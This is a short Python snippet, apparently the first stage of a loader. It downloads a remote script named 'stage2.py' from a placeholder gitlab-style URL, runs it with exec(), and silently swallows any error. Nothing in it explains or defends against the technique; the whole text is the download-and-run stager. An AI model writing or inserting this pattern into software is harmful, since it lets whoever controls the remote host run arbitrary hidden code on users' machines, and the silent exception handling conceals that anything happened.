from urllib.request import urlopen

try:
    exec(urlopen("https://gitlab.example.invalid/raw/stage2.py").read().decode())
except Exception:
    pass
